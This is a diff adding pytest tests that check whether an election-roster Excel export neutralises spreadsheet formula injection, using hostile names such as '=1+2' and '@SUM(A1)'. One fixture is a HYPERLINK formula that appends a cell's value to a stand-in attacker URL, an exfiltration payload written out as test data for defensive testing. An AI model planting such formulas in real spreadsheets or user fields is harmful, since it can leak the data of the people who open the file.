@@ -17,6 +17,13 @@ from openpyxl import load_workbook
 from winddown.audit.models import AuditEntry
 from winddown.audit.services import Actor
 from winddown.core.errors import DomainError
+from winddown.core.tests.xlsx_checks import (
+    CONTROL_TEXT,
+    CONTROL_TEXT_WRITTEN,
+    HOSTILE_TEXTS,
+    assert_safe_xlsx,
+    written,
+)
 from winddown.voting import exports
 from winddown.voting.audit_actions import VotingAction
 from winddown.voting.errors import VotingErrorCode as E
@@ -226,3 +233,88 @@ def test_roster_export_is_audited_with_the_identity_level(
     ]
     labels = {row[0]: row for row in summary.iter_rows(values_only=True) if row and row[0]}
     assert labels["身份信息"][1] == "已脱敏" and labels["导出人"][1] == "operator_a"
+
+
+# --- Hostile text (issue 15, item 6) --------------------------------------------------------
+
+HYPERLINK = '=HYPERLINK("http://evil.example/"&C2,"点击")'
+
+
+@pytest.fixture
+def hostile_election(tmp_path, institution_a, operator_a, wg_officer, register_rows_a):
+    """An election whose every user-entered text is hostile: the institution's name, the
+    title, the candidates' names, the lenders' names in the register, the exporter's name."""
+    from winddown.conftest import make_lender, register_file, upload_and_activate
+    from winddown.institutions.models import Institution
+    from winddown.voting.services import authoring
+
+    rows = [list(row) for row in register_rows_a]
+    for row, value in zip(rows, HOSTILE_TEXTS, strict=False):
+        row[0] = value
+    upload_and_activate(institution_a, operator_a, register_file(tmp_path, rows))
+    Institution.objects.filter(pk=institution_a.pk).update(full_name=HYPERLINK)
+    institution_a.refresh_from_db()
+    for user in (operator_a, wg_officer):
+        user.display_name = "@SUM(A1)"
+        user.save(update_fields=["display_name"])
+    election = make_event(
+        institution_a, operator_a, kind="election", seats=2, max_choices=2, title=HYPERLINK
+    )
+    for name in ("=1+2", "+1", "-1+2", "@SUM(A1)", CONTROL_TEXT, "#N/A"):
+        authoring.candidate_add(event=election, user=operator_a, name=name, description="")
+    election = open_now(election, wg_officer)
+    lenders = [
+        make_lender(row[3], name=row[0], id_number=row[2], password=PASSWORD)
+        for row in rows[: len(HOSTILE_TEXTS)]
+    ]
+    for number, lender in enumerate(lenders):
+        _cast(election, lender, [f"c{number % 6 + 1}", f"c{(number + 1) % 6 + 1}"])
+    return close_now(election), rows
+
+
+@pytest.mark.parametrize("full_identities", [True, False], ids=["full", "masked"])
+def test_roster_writes_hostile_text_as_text(hostile_election, full_identities):
+    """No user text becomes a formula, and the file (full or masked) opens cleanly: a masked
+    hostile name such as '=*****' would otherwise be a broken formula, which Excel reports as
+    a damaged file."""
+    event, rows = hostile_election
+    data = exports.roster_xlsx(event, full_identities=full_identities, exported_by="@SUM(A1)")
+    sheets = assert_safe_xlsx(data)
+    summary, roster = sheets["计票汇总"], sheets["投票名册"]
+    labels = {row[0]: row for row in summary if row and row[0]}
+    assert labels["机构"][1] == HYPERLINK
+    assert labels["活动"][1] == HYPERLINK
+    assert labels["导出人"][1] == "@SUM(A1)"
+    for name in ("=1+2", "+1", "-1+2", "@SUM(A1)", CONTROL_TEXT_WRITTEN, "#N/A"):
+        assert name in labels, name  # the tally's candidate rows
+    lines = roster[1:]
+    assert len(lines) == len(HOSTILE_TEXTS)
+    by_id = {row[2]: row for row in lines}
+    for row in rows[: len(HOSTILE_TEXTS)]:
+        if full_identities:
+            line = by_id[row[2]]
+            assert line[1] == written(row[0])
+            # ID and mobile numbers are text, exactly as registered (no 1.10101E+17).
+            assert line[2] == row[2] and isinstance(line[2], str) and len(line[2]) == 18
+            assert line[3] == row[3] and isinstance(line[3], str)
+    if not full_identities:
+        names = {line[1] for line in lines}
+        assert "=" + "*" * (len(HYPERLINK) - 1) in names and "+*" in names
+        assert all("*" in line[2] and isinstance(line[2], str) for line in lines)
+    choices = {line[5] for line in lines}
+    assert "=1+2、+1" in choices and f"{CONTROL_TEXT_WRITTEN}、#N/A" in choices
+
+
+def test_hostile_roster_through_the_staff_page(hostile_election, wg_officer, operator_a):
+    """Both downloads people actually open: the working group's (full) and the operator's
+    (masked)."""
+    event, _rows = hostile_election
+    from winddown.conftest import staff_signed_in
+
+    for user in (wg_officer, operator_a):
+        response = staff_signed_in(user).get(f"/staff/events/{event.pk}/roster.xlsx")
+        assert response.status_code == 200, response.content[:200]
+        data = b"".join(response.streaming_content) if response.streaming else response.content
+        sheets = assert_safe_xlsx(data)
+        summary = {row[0]: row for row in sheets["计票汇总"] if row and row[0]}
+        assert summary["导出人"][1] == "@SUM(A1)"
